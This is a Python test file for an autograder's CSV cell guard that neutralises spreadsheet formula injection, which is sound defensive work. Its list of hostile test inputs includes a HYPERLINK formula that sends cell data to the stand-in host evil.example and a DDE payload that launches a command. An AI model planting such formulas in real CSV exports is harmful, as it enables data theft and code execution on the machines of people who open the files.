"""The shared CSV cell guard: formulas are neutralised, numbers stay numbers, values come back
unchanged."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from autograder import csvsafe

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "'=already quoted",
    "''@twice",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_cells_start_with_a_quote(value):
    cell = csvsafe.neutralise(value)
    assert cell == "'" + value
    assert csvsafe.restore(cell) == value


@pytest.mark.parametrize("value", ["-1.5", "-3", "+2", "1e-3", "-0.25e2", " -4 ", "Jane Doe",
                                   "O'Brien", "'hello", "", "a=b", "3-1", "--"])
def test_numbers_and_plain_text_unchanged(value):
    assert csvsafe.neutralise(value) == value
    assert csvsafe.restore(value) == value


def test_real_numbers_pass_through_as_numbers():
    assert csvsafe.neutralise(-1.5) == -1.5
    assert csvsafe.neutralise(7) == 7
    assert csvsafe.neutralise(None) == ""


@given(st.text())
def test_restore_inverts_neutralise(value):
    cell = csvsafe.neutralise(value)
    assert csvsafe.restore(cell) == value
    # whatever is written, a spreadsheet does not evaluate it
    if (cell[:1] in csvsafe.FORMULA_TRIGGERS or cell.lstrip(" \t\r\n")[:1] in ("=", "+", "-", "@")) \
            and set(cell) != {"-"}:
        float(cell.strip())  # only numbers (and Otter's '--') may start like a formula


def test_writers_round_trip_through_the_csv_module():
    rows = [["name", "answer", "points"]] + [[v, v[::-1], -1.5] for v in HOSTILE]
    buf = io.StringIO()
    csvsafe.writer(buf, lineterminator="\n").writerows(rows)
    raw = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    assert [csvsafe.restore_row(r) for r in raw] == [[str(c) for c in r] for r in rows]
    assert all(r[0].startswith("'") for r in raw[1:])
    assert [r[2] for r in raw[1:]] == ["-1.5"] * len(HOSTILE)  # numbers stay numbers

    buf = io.StringIO()
    w = csvsafe.dict_writer(buf, ["who", "score"], lineterminator="\n")
    w.writeheader()
    w.writerow({"who": "=1+1", "score": -2})
    assert buf.getvalue() == "who,score\n'=1+1,-2\n"
